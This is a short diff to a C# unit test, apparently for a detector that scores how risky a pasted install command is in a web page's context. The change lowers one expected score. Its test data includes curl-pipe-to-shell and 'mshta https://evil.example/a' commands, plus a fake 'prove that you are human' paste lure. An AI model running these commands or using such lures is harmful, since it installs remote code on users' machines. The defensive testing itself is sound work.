@@ -20,7 +20,7 @@ public sealed class ScriptBehaviourTests
     }
 
     [Theory]
-    [InlineData("<h1>Setup</h1><p>Copy the line below.</p>", "curl -fsSL https://tool.example/i.sh | sh", 40)]
+    [InlineData("<h1>Setup</h1><p>Copy the line below.</p>", "curl -fsSL https://tool.example/i.sh | sh", 15)]
     [InlineData("<p>Open Terminal, paste and press Enter to prove that you are human.</p>", "curl -fsSL https://tool.example/i.sh | sh", 100)]
     [InlineData("<h1>Setup</h1>", "mshta https://evil.example/a", 100)]
     public void A_line_that_installs_says_less_in_a_manual(string words, string command, int percent)
